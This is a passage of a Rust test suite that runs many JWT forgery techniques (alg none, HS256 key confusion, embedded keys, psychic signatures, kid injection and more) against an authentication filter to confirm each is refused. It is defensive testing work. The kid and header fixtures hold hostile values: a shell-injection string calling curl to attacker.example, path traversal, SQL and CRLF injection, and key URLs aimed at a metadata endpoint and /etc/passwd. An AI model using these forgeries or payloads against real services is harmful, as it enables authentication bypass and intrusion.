//! The 18 JWT attack classes (the table in `docs/security-tests.md`), each
//! sent as `Authorization: Bearer …` through the **compiled** filter. Every
//! refusal is checked whole: 401, the exact JSON body, the exact
//! `WWW-Authenticate` challenge, no callout from any context, nothing passed
//! upstream, the `unauthorized` counter, the token not in the logs, the VM
//! alive (and still letting a good token through at the end).
//!
//! Tokens are signed here with the harness test key (`common::signing_key`,
//! scalar 0x07…07, pinned in the demo policy) or an attacker key (scalar
//! 0x09…09). The derived corpus (`derived/es256_privy_conformance.json`) is
//! already run through the .wasm by `filter.rs::derived_conformance_corpus_through_the_wasm`;
//! docs/security-tests.md maps its cases to these classes instead of
//! running them twice.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod common;

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use common::*;
use dialtone_devstack::tokens;
use dialtone_harness::{Action, CallAnswer, LogLevel, Outcome, Plugin, PluginOptions, StartError};
use p256::ecdsa::signature::Signer;
use p256::ecdsa::{Signature, SigningKey};
use serde_json::{json, Value};

const SMS: &str = "/api/v1/sms/send";
const ACCOUNT: &str = "/api/v1/account";

/// The claims every fixture carries unless it says otherwise, byte for byte
/// (valid at `NOW` = 2026-01-15T08:00:00Z):
/// `sid` "dev-session", `iss` "privy.io", `iat` NOW-5, `aud` "dialtone-demo-app",
/// `sub` "did:privy:harness-user", `exp` NOW+3600.
const CLAIMS: &str = r#"{"sid":"dev-session","iss":"privy.io","iat":1768463995,"aud":"dialtone-demo-app","sub":"did:privy:harness-user","exp":1768467600}"#;
/// The header of a good token.
const H_GOOD: &str = r#"{"alg":"ES256","typ":"JWT"}"#;

/// P-256 group order n, big-endian.
const N_HEX: &str = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";

/// Where the attacker's JWKS would be (must never be fetched).
const ATTACKER_URL: &str = "https://attacker.example/.well-known/jwks.json";

fn attacker_key() -> SigningKey {
    SigningKey::from_slice(&[9u8; 32]).unwrap()
}

fn seg(json_text: &str) -> String {
    URL_SAFE_NO_PAD.encode(json_text.as_bytes())
}

/// A compact JWS over `header` and `claims` exactly as written (so duplicate
/// members and odd bytes survive), signed ES256 with `key`.
fn sign_raw(key: &SigningKey, header: &[u8], claims: &[u8]) -> String {
    let input = format!("{}.{}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(claims));
    let sig: Signature = key.sign(input.as_bytes());
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(sig.to_bytes()))
}

fn sign(key: &SigningKey, header: &str, claims: &str) -> String {
    sign_raw(key, header.as_bytes(), claims.as_bytes())
}

/// The good token's header and payload with `sig` as its signature.
fn with_signature(sig: &[u8]) -> String {
    format!("{}.{}.{}", seg(H_GOOD), seg(CLAIMS), URL_SAFE_NO_PAD.encode(sig))
}

/// The raw `r‖s` of the good token.
fn good_signature() -> Signature {
    let input = format!("{}.{}", seg(H_GOOD), seg(CLAIMS));
    signing_key().sign(input.as_bytes())
}

fn good_token() -> String {
    sign(&signing_key(), H_GOOD, CLAIMS)
}

/// A JWK of `key`'s public half.
fn jwk(kid: &str, key: &SigningKey) -> Value {
    let p = key.verifying_key().to_encoded_point(false);
    json!({"kty": "EC", "crv": "P-256", "kid": kid, "use": "sig", "alg": "ES256",
           "x": URL_SAFE_NO_PAD.encode(p.x().unwrap()), "y": URL_SAFE_NO_PAD.encode(p.y().unwrap())})
}

/// The demo policy with the test key only in a JWKS, under kid `k-live`.
fn jwks_config() -> Value {
    let mut cfg = demo_config();
    let privy = cfg["privy"].as_object_mut().unwrap();
    privy.remove("verification_key");
    privy.insert("jwks".into(), json!({"keys": [jwk("k-live", &signing_key())]}));
    cfg
}

/// The demo policy fetching the issuer's JWKS (no pinned key).
fn fetching_config(cooldown: u64) -> Value {
    let mut cfg = demo_config();
    let privy = cfg["privy"].as_object_mut().unwrap();
    privy.remove("verification_key");
    privy.insert(
        "jwks_fetch".into(),
        json!({"cluster": "privy_api", "authority": "api.privy.io", "path": "/v1/apps/dialtone-demo-app/jwks.json",
               "refresh_seconds": 10, "unknown_kid_cooldown_seconds": cooldown, "timeout_ms": 500}),
    );
    cfg
}

fn counter(p: &Plugin, name: &str) -> i64 {
    p.metric(name).map(|m| m.value).unwrap_or_else(|| panic!("{name} not defined"))
}

/// Sends `token` to the paid SMS route and checks the whole refusal: 401,
/// exactly `{"success":false,"error":"unauthorized","message":<message>}`,
/// the RFC 6750 challenge with `rfc6750` and the message, no callout from any
/// context, nothing upstream, the counter, no token in the logs, no crash.
fn refused_as(p: &mut Plugin, what: &str, token: &str, message: &str, rfc6750: &str) {
    let denied = counter(p, "dialtone.denied.unauthorized");
    let callouts = p.callout_log().len();
    let auth = format!("Bearer {token}");
    let mut s = p.http().unwrap();
    let action = s
        .request(&request("POST", SMS, &[("authorization", &auth), ("x-dialtone-account", "did:privy:victim")]))
        .unwrap_or_else(|e| panic!("{what}: {e:#}"));
    assert_eq!(action, Action::Pause, "{what}: the request must stop at the filter");
    let Outcome::Replied(r) = s.outcome() else { panic!("{what}: not refused: {:?}", s.outcome()) };
    common::assert_unauthorized(&r, what, message, rfc6750);
    assert!(s.callouts().is_empty(), "{what}: a refused token must cost no callout");
    s.close().unwrap();
    assert_eq!(p.callout_log().len(), callouts, "{what}: no callout from any context (no JWKS fetch either)");
    assert!(p.pending_callouts().is_empty(), "{what}");
    assert_eq!(counter(p, "dialtone.denied.unauthorized"), denied + 1, "{what}");
    if token.len() > 16 {
        assert!(!p.log_text(LogLevel::Trace).contains(token), "{what}: the token is in the logs");
    }
    assert!(p.crashed().is_none(), "{what}: {:?}", p.crashed());
}

/// A refusal by the JWS verifier (`error="invalid_token"`).
fn refused(p: &mut Plugin, what: &str, token: &str, message: &str) {
    refused_as(p, what, token, message, "invalid_token");
}

/// `token` is accepted: a free route passes with the session's identity,
/// with no callout.
fn accepted(p: &mut Plugin, what: &str, token: &str) {
    let mut s = p.http().unwrap();
    s.request(&request("GET", ACCOUNT, &[("authorization", &format!("Bearer {token}"))])).unwrap();
    let Outcome::Passed(_) = s.outcome() else { panic!("{what}: refused: {:?}", s.outcome()) };
    assert_eq!(s.upstream_header("x-dialtone-account").as_deref(), Some(USER), "{what}");
    assert_eq!(s.upstream_header("x-dialtone-auth-method").as_deref(), Some("privy"), "{what}");
    assert_eq!(s.upstream_header("authorization"), None, "{what}");
    assert!(s.callouts().is_empty(), "{what}");
    s.close().unwrap();
}

/// `CLAIMS` with a session id of its own: a token no earlier request used
/// (so no cache of verified tokens can answer for it).
fn fresh_claims() -> String {
    static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
    let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    CLAIMS.replace("dev-session", &format!("fresh-{n}"))
}

/// After a batch of attacks the VM is alive and a fresh good token still works.
fn still_serving(p: &mut Plugin) {
    assert!(p.crashed().is_none(), "{:?}", p.crashed());
    accepted(p, "good token after the attacks", &sign(&signing_key(), H_GOOD, &fresh_claims()));
}

#[test]
fn fixtures_are_what_their_comments_say() {
    let c: Value = serde_json::from_str(CLAIMS).unwrap();
    assert_eq!(c, claims());
    assert_eq!(c["iat"], NOW - 5);
    assert_eq!(c["exp"], NOW + 3600);
    let mut p = demo();
    accepted(&mut p, "the good fixture", &good_token());
    assert_eq!(hex::encode(n_bytes()), N_HEX);
}

fn n_bytes() -> [u8; 32] {
    hex::decode(N_HEX).unwrap().try_into().unwrap()
}

// --- 1. alg: none ----------------------------------------------------------

/// `{"alg":"none"}` and its case variants, without a signature (a token that
/// ends in `.`) and with a real ES256 signature over that header.
#[test]
fn c01_alg_none_in_every_spelling() {
    let mut p = demo();
    for alg in ["none", "None", "NONE", "nOnE"] {
        let header = format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#);
        // Unsigned: the empty third segment is refused as structure before anything else.
        refused(&mut p, &format!("alg {alg}, no signature"), &format!("{}.{}.", seg(&header), seg(CLAIMS)), "malformed token");
        // With a signature the real key made over this very header.
        refused(&mut p, &format!("alg {alg}, signed"), &sign(&signing_key(), &header, CLAIMS), "token algorithm must be ES256");
        // The good token's signature stuck on.
        let sig = URL_SAFE_NO_PAD.encode(good_signature().to_bytes());
        refused(&mut p, &format!("alg {alg}, borrowed signature"), &format!("{}.{}.{sig}", seg(&header), seg(CLAIMS)), "token algorithm must be ES256");
    }
    still_serving(&mut p);
}

// --- 2. alg not exactly ES256 ------------------------------------------------

/// Each header is validly ES256-signed by the real key: only `alg` is wrong.
#[test]
fn c02_alg_must_be_exactly_the_string_es256() {
    const HEADERS: &[(&str, &str)] = &[
        ("lower case", r#"{"alg":"es256"}"#),
        ("trailing space", r#"{"alg":"ES256 "}"#),
        ("leading space", r#"{"alg":" ES256"}"#),
        ("ES384", r#"{"alg":"ES384"}"#),
        ("ES512", r#"{"alg":"ES512"}"#),
        ("ES256K", r#"{"alg":"ES256K"}"#),
        ("RS256", r#"{"alg":"RS256"}"#),
        ("PS256", r#"{"alg":"PS256"}"#),
        ("EdDSA", r#"{"alg":"EdDSA"}"#),
        ("array", r#"{"alg":["ES256"]}"#),
        ("object", r#"{"alg":{"name":"ES256"}}"#),
        ("null", r#"{"alg":null}"#),
        ("number", r#"{"alg":256}"#),
        ("empty", r#"{"alg":""}"#),
        ("missing", r#"{"typ":"JWT"}"#),
        ("NUL suffix", r#"{"alg":"ES256\u0000"}"#),
        ("unicode escape spelling of ES256 plus junk", r#"{"alg":"\u0045S256x"}"#),
    ];
    let mut p = demo();
    for (what, header) in HEADERS {
        refused(&mut p, what, &sign(&signing_key(), header, CLAIMS), "token algorithm must be ES256");
    }
    // The cookbook's ES512 (RFC 7520 §4.3) and HS256 (§4.4) examples.
    for file in ["4_3.ecdsa_signature.json", "4_4.hmac-sha2_integrity_protection.json"] {
        let doc = testdata(&format!("jose-cookbook/rfc7520/{file}"));
        let compact = doc["output"]["compact"].as_str().unwrap();
        refused(&mut p, file, compact, "token algorithm must be ES256");
    }
    // `\u0045S256` is a legal JSON spelling of "ES256": it is the same string, so accepted.
    accepted(&mut p, "escaped ES256", &sign(&signing_key(), r#"{"alg":"\u0045S256"}"#, CLAIMS));
    still_serving(&mut p);
}

// --- 3. algorithm confusion --------------------------------------------------

/// HS256 MACs keyed with every public form of the verifier's key.
#[test]
fn c03_hs256_keyed_with_the_public_key() {
    use p256::pkcs8::EncodePublicKey;
    let vk = *signing_key().verifying_key();
    let pem = tokens::public_pem(&signing_key()).unwrap();
    let der = vk.to_public_key_der().unwrap().as_bytes().to_vec();
    let sec1 = vk.to_encoded_point(false).as_bytes().to_vec();
    let sec1_compressed = vk.to_encoded_point(true).as_bytes().to_vec();
    let jwk_json = jwk("k-live", &signing_key()).to_string();
    let secrets: Vec<(&str, Vec<u8>)> = vec![
        ("PEM", pem.as_bytes().to_vec()),
        ("PEM without the trailing newline", pem.trim_end().as_bytes().to_vec()),
        ("SPKI DER", der),
        ("SEC1 point", sec1),
        ("SEC1 compressed point", sec1_compressed),
        ("JWK JSON", jwk_json.into_bytes()),
    ];
    let mut p = demo();
    for (what, secret) in &secrets {
        for header in [json!({"alg": "HS256", "typ": "JWT"}), json!({"alg": "HS256"}), json!({"alg": "HS512"})] {
            let token = tokens::sign_hs256(secret, &header, &claims()).unwrap();
            refused(&mut p, &format!("{header} keyed with the {what}"), &token, "token algorithm must be ES256");
        }
        // The MAC under a header that claims ES256: a 32-byte "signature".
        let token = tokens::sign_hs256(secret, &json!({"alg": "ES256", "typ": "JWT"}), &claims()).unwrap();
        refused(&mut p, &format!("HMAC under alg ES256, keyed with the {what}"), &token, "invalid token signature");
    }
    // The same against a JWKS-configured filter: the key's JWK is no secret either.
    let mut p = start(&jwks_config());
    let token = tokens::sign_hs256(jwk("k-live", &signing_key()).to_string().as_bytes(), &json!({"alg": "HS256", "kid": "k-live"}), &claims()).unwrap();
    refused(&mut p, "HS256 with kid keyed with the JWK", &token, "token algorithm must be ES256");
    still_serving_kid(&mut p);
}

fn still_serving_kid(p: &mut Plugin) {
    assert!(p.crashed().is_none());
    accepted(p, "good kid-named token", &live_token());
}

/// A fresh token naming kid `k-live`, signed by the test key.
fn live_token() -> String {
    sign(&signing_key(), r#"{"alg":"ES256","kid":"k-live"}"#, &fresh_claims())
}

// --- 4. embedded jwk ---------------------------------------------------------

#[test]
fn c04_embedded_jwk_is_not_key_material() {
    let attacker = attacker_key();
    let attacker_jwk = jwk("attacker", &attacker);
    let headers = [
        json!({"alg": "ES256", "jwk": attacker_jwk}),
        json!({"alg": "ES256", "typ": "JWT", "kid": "attacker", "jwk": attacker_jwk}),
        // The attacker's key under the victim's kid.
        json!({"alg": "ES256", "kid": "k-live", "jwk": attacker_jwk}),
    ];
    for cfg in [demo_config(), jwks_config()] {
        let mut p = start(&cfg);
        for h in &headers {
            let token = sign(&attacker, &h.to_string(), CLAIMS);
            let message = if h["kid"] == "attacker" && cfg["privy"].get("jwks").is_some() {
                "token signed by an unknown key"
            } else {
                "invalid token signature"
            };
            refused(&mut p, &format!("embedded jwk {h}"), &token, message);
        }
        // The real key's own JWK embedded does not help a forged token either.
        let h = json!({"alg": "ES256", "jwk": jwk("k-live", &signing_key())});
        refused(&mut p, "victim's jwk embedded, attacker's signature", &sign(&attacker, &h.to_string(), CLAIMS), "invalid token signature");
        assert!(p.crashed().is_none());
    }
    still_serving(&mut demo());
}

// --- 5. jku / x5u / x5c ------------------------------------------------------

/// Key URLs and certificates in the header are never fetched or trusted.
#[test]
fn c05_jku_x5u_x5c_are_never_fetched_or_trusted() {
    let attacker = attacker_key();
    // A self-signed-looking blob: the content does not matter, it is never parsed.
    let x5c = STANDARD.encode(b"not a certificate, and never looked at");
    let headers = [
        json!({"alg": "ES256", "jku": ATTACKER_URL}),
        json!({"alg": "ES256", "x5u": "https://attacker.example/cert.pem"}),
        json!({"alg": "ES256", "x5c": [x5c]}),
        json!({"alg": "ES256", "jku": "http://169.254.169.254/latest/meta-data/", "x5u": "file:///etc/passwd"}),
    ];
    let mut p = demo();
    for h in &headers {
        refused(&mut p, &format!("{h}"), &sign(&attacker, &h.to_string(), CLAIMS), "invalid token signature");
    }
    // Thumbprints, well-formed or not, are header members the filter never
    // reads (the token layer is ours, README "The token layer"): ignored, so
    // the attacker's token fails on its signature.
    let bad_thumbprints = json!({"alg": "ES256", "x5t": "aGVsbG8", "x5t#S256": "aGVsbG8"});
    refused(&mut p, "short x5t", &sign(&attacker, &bad_thumbprints.to_string(), CLAIMS), "invalid token signature");
    let thumbprints = json!({"alg": "ES256", "x5t": URL_SAFE_NO_PAD.encode([7u8; 20]), "x5t#S256": URL_SAFE_NO_PAD.encode([7u8; 32])});
    refused(&mut p, "x5t", &sign(&attacker, &thumbprints.to_string(), CLAIMS), "invalid token signature");
    still_serving(&mut p);

    // With JWKS fetching configured, a token that names an unknown kid next to
    // its jku makes the filter refetch the *operator's* JWKS (cluster and path
    // from the config, at most once per cooldown), never the jku.
    let mut p = start(&fetching_config(30));
    let start_fetch = p.pending_callouts().into_iter().next().expect("the fetch at start");
    p.answer(start_fetch.token, CallAnswer::json(200, &json!({"keys": [jwk("k-live", &signing_key())]}))).unwrap();
    let token = sign(&attacker, &json!({"alg": "ES256", "kid": "attacker", "jku": ATTACKER_URL}).to_string(), CLAIMS);
    let mut s = p.http().unwrap();
    s.request(&request("GET", ACCOUNT, &[("authorization", &format!("Bearer {token}"))])).unwrap();
    let fetch = s.pending_callouts().into_iter().next().expect("an unknown kid refetches the configured JWKS");
    assert_eq!(fetch.upstream, "privy_api");
    assert_eq!(fetch.path(), "/v1/apps/dialtone-demo-app/jwks.json");
    assert_eq!(fetch.header(":authority").as_deref(), Some("api.privy.io"));
    let wire = format!("{:?}{}", fetch.headers, String::from_utf8_lossy(&fetch.body));
    assert!(!wire.contains("attacker"), "{wire}");
    s.answer(fetch.token, CallAnswer::json(200, &json!({"keys": [jwk("k-live", &signing_key())]}))).unwrap();
    let r = s.local_reply().expect("refused after the refetch");
    assert_eq!((r.status, r.json()["message"].clone()), (401, json!("token signed by an unknown key")));
    s.close().unwrap();
    // Within the cooldown the same attack costs no callout at all.
    refused(&mut p, "jku + unknown kid within the cooldown", &token, "token signed by an unknown key");
    assert!(p.callout_log().iter().all(|c| c.upstream == "privy_api" && c.path() == "/v1/apps/dialtone-demo-app/jwks.json"));
    assert_eq!(p.callout_log().len(), 2, "one fetch at start, one for the unknown kid");
}

// --- 6. kid injection --------------------------------------------------------

const HOSTILE_KIDS: &[&str] = &[
    "../../../../../../dev/null",
    "/dev/null",
    "..\\..\\windows\\win.ini",
    "' OR '1'='1' -- ",
    "k-live' UNION SELECT 'secret",
    "$(curl attacker.example)|id;`id`",
    "k-live\r\nx-dialtone-auth-method: admin",
    "k-live\u{0000}",
    "",
    "K-LIVE",
    "k-live ",
];

#[test]
fn c06_kid_is_an_opaque_bounded_string() {
    let attacker = attacker_key();
    // JWKS keyed by kid: no hostile kid matches, exact comparison only.
    let mut p = start(&jwks_config());
    for kid in HOSTILE_KIDS {
        let h = json!({"alg": "ES256", "kid": kid}).to_string();
        refused(&mut p, &format!("kid {kid:?}, attacker key"), &sign(&attacker, &h, CLAIMS), "token signed by an unknown key");
        refused(&mut p, &format!("kid {kid:?}, real key"), &sign(&signing_key(), &h, CLAIMS), "token signed by an unknown key");
    }
    // Non-string kids and oversized kids are a malformed header, whatever signs them.
    for kid in [json!(1), json!(["k-live"]), json!({"k": "k-live"}), json!(true), json!("k".repeat(257))] {
        let h = json!({"alg": "ES256", "kid": kid}).to_string();
        refused(&mut p, &format!("kid {kid}"), &sign(&signing_key(), &h, CLAIMS), "malformed token header");
    }
    // 256 bytes is the bound: still just an unknown key.
    let h = json!({"alg": "ES256", "kid": "k".repeat(256)}).to_string();
    refused(&mut p, "256-byte kid", &sign(&signing_key(), &h, CLAIMS), "token signed by an unknown key");
    // Never logged: neither the payloads nor a header-injection attempt.
    let logs = p.log_text(LogLevel::Trace);
    for kid in HOSTILE_KIDS.iter().filter(|k| k.len() > 4) {
        assert!(!logs.contains(kid), "kid {kid:?} is in the logs");
    }
    assert!(!logs.contains("x-dialtone-auth-method: admin"));
    still_serving_kid(&mut p);

    // A single pinned key (no kid): kid is ignored, only the signature counts.
    let mut p = demo();
    for kid in HOSTILE_KIDS {
        let h = json!({"alg": "ES256", "kid": kid}).to_string();
        refused(&mut p, &format!("pinned key, kid {kid:?}, attacker key"), &sign(&attacker, &h, CLAIMS), "invalid token signature");
    }
    still_serving(&mut p);
}

// --- 7. crit -----------------------------------------------------------------

/// Each header is validly signed by the real key.
#[test]
fn c07_any_crit_is_refused() {
    const HEADERS: &[(&str, &str)] = &[
        ("unknown extension", r#"{"alg":"ES256","crit":["x-dialtone"],"x-dialtone":1}"#),
        ("registered name", r#"{"alg":"ES256","crit":["exp"],"exp":1}"#),
        ("empty list", r#"{"alg":"ES256","crit":[]}"#),
        ("not an array", r#"{"alg":"ES256","crit":"b64"}"#),
        ("null", r#"{"alg":"ES256","crit":null}"#),
        ("object", r#"{"alg":"ES256","crit":{}}"#),
        ("listed but absent", r#"{"alg":"ES256","crit":["nope"]}"#),
    ];
    let mut p = demo();
    for (what, header) in HEADERS {
        // A crit member is refused whatever its value, null included.
        refused(&mut p, what, &sign(&signing_key(), header, CLAIMS), "token has critical extensions");
    }
    still_serving(&mut p);
}

// --- 8. b64: false -----------------------------------------------------------

#[test]
fn c08_unencoded_payload_is_never_verified() {
    let mut p = demo();
    // RFC 7797 done right: b64 false, critical. Refused for crit.
    let h = r#"{"alg":"ES256","b64":false,"crit":["b64"]}"#;
    refused(&mut p, "b64 false in crit, signed over the encoded payload", &sign(&signing_key(), h, CLAIMS), "token has critical extensions");
    // The same with the signature over the *unencoded* payload, as RFC 7797 signs.
    let input = format!("{}.{CLAIMS}", seg(h));
    let sig: Signature = signing_key().sign(input.as_bytes());
    let token = format!("{}.{}.{}", seg(h), seg(CLAIMS), URL_SAFE_NO_PAD.encode(sig.to_bytes()));
    refused(&mut p, "b64 false in crit, signed over the raw payload", &token, "token has critical extensions");
    // Without crit, b64 is an unknown member and ignored: a signature over the
    // raw payload does not verify ...
    let h = r#"{"alg":"ES256","b64":false}"#;
    let input = format!("{}.{CLAIMS}", seg(h));
    let sig: Signature = signing_key().sign(input.as_bytes());
    let token = format!("{}.{}.{}", seg(h), seg(CLAIMS), URL_SAFE_NO_PAD.encode(sig.to_bytes()));
    refused(&mut p, "b64 false without crit, signed over the raw payload", &token, "invalid token signature");
    // ... and one over the encoded payload is an ordinary token (conformant: docs/jwt-attacks.md row 8).
    accepted(&mut p, "b64 false without crit, ordinary signature", &sign(&signing_key(), h, CLAIMS));
    // The cookbook's RFC 7797 examples (HS256, b64 false): their raw payloads
    // ("$.02", "This is the payload string!") are not RFC 6750 token bytes.
    let doc = testdata("jose-cookbook/rfc7797/4.2.hmac-sha2_b64_false.json");
    let flat = &doc["output"]["json_flat"];
    let (protected, payload, signature) = (flat["protected"].as_str().unwrap(), flat["payload"].as_str().unwrap(), flat["signature"].as_str().unwrap());
    refused_as(&mut p, "RFC 7797 4.2 compact", &format!("{protected}.{payload}.{signature}"), "the Bearer token has characters RFC 6750 does not allow", "invalid_request");
    refused(&mut p, "RFC 7797 4.2 detached", &format!("{protected}..{signature}"), "malformed token");
    let doc = testdata("jose-cookbook/rfc7797/hmac-sha2_b64_false.json");
    refused_as(&mut p, "RFC 7797 compact", doc["output"]["compact"].as_str().unwrap(), "the Bearer token has characters RFC 6750 does not allow", "invalid_request");
    still_serving(&mut p);
}

// --- 9. duplicate members ----------------------------------------------------

/// Built so that both conformant behaviours (reject, last wins) reject, and a
/// first-wins parser would accept. All validly signed by the real key.
#[test]
fn c09_duplicate_members_are_refused() {
    let mut p = demo();
    const HEADERS: &[(&str, &str)] = &[
        ("alg twice, none last", r#"{"alg":"ES256","alg":"none"}"#),
        ("alg twice, ES256 last", r#"{"alg":"none","alg":"ES256"}"#),
        ("alg twice, same value", r#"{"alg":"ES256","alg":"ES256"}"#),
        ("kid twice", r#"{"alg":"ES256","kid":"a","kid":"b"}"#),
        ("crit twice", r#"{"alg":"ES256","crit":["x"],"crit":["y"]}"#),
        ("typ twice", r#"{"alg":"ES256","typ":"JWT","typ":"JWT"}"#),
    ];
    for (what, header) in HEADERS {
        refused(&mut p, what, &sign(&signing_key(), header, CLAIMS), "malformed token header");
    }
    // exp 2100-01-01 then 2001-09-09; aud right then wrong; sub victim then us;
    // iss twice; sid twice; nbf twice.
    let base = r#""sid":"dev-session","iss":"privy.io","iat":1768463995,"aud":"dialtone-demo-app","sub":"did:privy:harness-user","exp":1768467600"#;
    let claim_sets = [
        ("exp twice, expired last", format!(r#"{{{base},"exp":1000000000}}"#)),
        ("aud twice, another app last", format!(r#"{{{base},"aud":"another-app"}}"#)),
        ("sub twice", format!(r#"{{{base},"sub":"did:privy:victim"}}"#)),
        ("iss twice", format!(r#"{{{base},"iss":"privy.io"}}"#)),
        ("sid twice", format!(r#"{{{base},"sid":"other"}}"#)),
        ("nbf twice", format!(r#"{{{base},"nbf":1,"nbf":2}}"#)),
    ];
    for (what, c) in &claim_sets {
        refused(&mut p, what, &sign(&signing_key(), H_GOOD, c), "malformed token claims");
    }
    still_serving(&mut p);
}

// --- 10. non-canonical base64url ---------------------------------------------

#[test]
fn c10_base64url_is_decoded_strictly() {
    let mut p = demo();
    let good = good_token();
    let (head, sig) = good.rsplit_once('.').unwrap();
    // 64 bytes = 86 characters: the last one carries 4 unused bits.
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = sig.as_bytes()[sig.len() - 1];
    let v = ALPHABET.iter().position(|c| *c == last).unwrap();
    let flipped = ALPHABET[v ^ 1] as char;
    let noncanonical = format!("{head}.{}{flipped}", &sig[..sig.len() - 1]);
    assert_eq!(
        base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, base64::engine::general_purpose::NO_PAD.with_decode_allow_trailing_bits(true))
            .decode(noncanonical.rsplit_once('.').unwrap().1)
            .unwrap(),
        good_signature().to_bytes().to_vec(),
        "a lenient decoder reads the same signature"
    );
    refused(&mut p, "changed unused trailing bits", &noncanonical, "malformed token encoding");
    refused(&mut p, "padded signature", &format!("{good}="), "malformed token encoding");
    refused(&mut p, "padded signature (two)", &format!("{good}=="), "malformed token encoding");
    refused(&mut p, "three stray characters (length mod 4 = 1)", &format!("{head}.{sig}AAA"), "malformed token encoding");
    // Standard alphabet: `+` and `/` pass RFC 6750's charset, not base64url.
    let std_token = good.replace('-', "+").replace('_', "/");
    assert_ne!(std_token, good, "the fixture must contain - or _");
    refused(&mut p, "standard alphabet", &std_token, "malformed token encoding");
    // A padded header segment is `=` inside the token: RFC 6750 refuses it.
    // (This 22-byte header needs two padding characters.)
    let odd = sign(&signing_key(), r#"{"alg":"ES256","x":12}"#, CLAIMS);
    let (h, rest) = odd.split_once('.').unwrap();
    let padded_header = format!("{}.{rest}", STANDARD.encode(URL_SAFE_NO_PAD.decode(h).unwrap()));
    assert!(padded_header.contains("==."), "{padded_header}");
    refused_as(&mut p, "padded header", &padded_header, "the Bearer token has characters RFC 6750 does not allow", "invalid_request");
    // Whitespace and stray characters never reach the decoder: the Authorization
    // parser refuses them (invalid_request).
    for (what, token) in [
        ("space in the signature", format!("{head}.{} {}", &sig[..10], &sig[10..])),
        ("'?' in the header (Wycheproof tc372)", format!("ey?{}", &good[2..])),
        ("tab in the payload", good.replacen('.', ".\t", 1)),
        ("'=' in the middle", good.replacen('.', "=.", 1)),
        ("'!' in the signature", format!("{good}!")),
    ] {
        refused_as(&mut p, what, &token, "the Bearer token has characters RFC 6750 does not allow", "invalid_request");
    }
    still_serving(&mut p);
}

// --- 11. high-S ----------------------------------------------------------------

/// (r, n−s) verifies as well as (r, s): ES256 does not require low S, so a
/// high-S token is **accepted** (RFC 7515 A.3's own example is high-S).
#[test]
fn c11_high_s_signatures_are_accepted() {
    let sig = good_signature();
    let (low, high) = match sig.normalize_s() {
        Some(normalized) => (normalized, sig),
        None => (sig, Signature::from_scalars(sig.r(), -sig.s()).unwrap()),
    };
    assert!(high.normalize_s().is_some(), "the fixture must be high-S");
    assert!(low.normalize_s().is_none());
    assert_ne!(low.to_bytes(), high.to_bytes());
    let mut p = demo();
    accepted(&mut p, "low-S", &with_signature(&low.to_bytes()));
    accepted(&mut p, "high-S", &with_signature(&high.to_bytes()));
    // The derived corpus's high-S case, under its own key and clock.
    let corpus = testdata("derived/es256_privy_conformance.json");
    let case = corpus["cases"].as_array().unwrap().iter().find(|c| c["id"] == "valid_high_s").unwrap();
    let vc = &corpus["verifier_config"];
    let mut cfg = demo_config();
    cfg["privy"] = json!({"app_id": vc["audience"], "issuer": vc["issuer"], "verification_key": vc["public_key_pem"], "leeway_seconds": 60});
    let mut p = Plugin::start(wasm(), PluginOptions::new(cfg.to_string()).clock_secs(vc["now_unix"].as_i64().unwrap())).unwrap();
    let mut s = p.http().unwrap();
    s.request(&request("GET", ACCOUNT, &[("authorization", &format!("Bearer {}", case["token"].as_str().unwrap()))])).unwrap();
    assert!(matches!(s.outcome(), Outcome::Passed(_)), "{:?}", s.outcome());
}

// --- 12. r or s = 0 or ≥ n -------------------------------------------------------

#[test]
fn c12_psychic_and_out_of_range_signatures() {
    let good = good_signature().to_bytes();
    let (r, s) = good.split_at(32);
    let n = n_bytes();
    let zero = [0u8; 32];
    let ff = [0xffu8; 32];
    let mut n_plus_r = n;
    // n + 1 (still ≥ n): never reduced mod n.
    n_plus_r[31] = n_plus_r[31].wrapping_add(1);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("r = 0, s = 0 (CVE-2022-21449)", [zero, zero].concat()),
        ("r = 0", [&zero[..], s].concat()),
        ("s = 0", [r, &zero[..]].concat()),
        ("r = n", [&n[..], s].concat()),
        ("s = n", [r, &n[..]].concat()),
        ("r = n, s = n", [n, n].concat()),
        ("r = n + 1", [&n_plus_r[..], s].concat()),
        ("s = n + 1", [r, &n_plus_r[..]].concat()),
        ("r = 2^256 - 1", [&ff[..], s].concat()),
        ("s = 2^256 - 1", [r, &ff[..]].concat()),
        ("r and s swapped", [s, r].concat()),
    ];
    let mut p = demo();
    for (what, sig) in &cases {
        assert_eq!(sig.len(), 64, "{what}");
        refused(&mut p, what, &with_signature(sig), "invalid token signature");
    }
    still_serving(&mut p);
}

// --- 13. wrong signature length ------------------------------------------------

#[test]
fn c13_signature_must_be_exactly_64_bytes() {
    let good = good_signature().to_bytes();
    let (r, s) = good.split_at(32);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("one byte", vec![1]),
        ("32 bytes (r only)", r.to_vec()),
        ("truncated to 63", good[..63].to_vec()),
        ("trailing zero, 65", [&good[..], &[0]].concat()),
        ("r and s left-padded to 33 bytes each, 66", [&[0], r, &[0], s].concat()),
        ("128 bytes (twice)", [&good[..], &good[..]].concat()),
        ("96 bytes (ES384 size)", [&good[..], &good[..32]].concat()),
    ];
    let mut p = demo();
    for (what, sig) in &cases {
        refused(&mut p, what, &with_signature(sig), "invalid token signature");
    }
    // An empty signature segment is a structure error (as alg none has).
    refused(&mut p, "empty", &format!("{}.{}.", seg(H_GOOD), seg(CLAIMS)), "malformed token");
    still_serving(&mut p);
}

// --- 14. DER signatures ----------------------------------------------------------

#[test]
fn c14_der_encoded_signatures_are_refused() {
    let sig = good_signature();
    let der = sig.to_der();
    assert!((68..=72).contains(&der.as_bytes().len()));
    let mut p = demo();
    refused(&mut p, "DER", &with_signature(der.as_bytes()), "invalid token signature");
    // DER of the high-S twin too, and DER trimmed to 64 bytes.
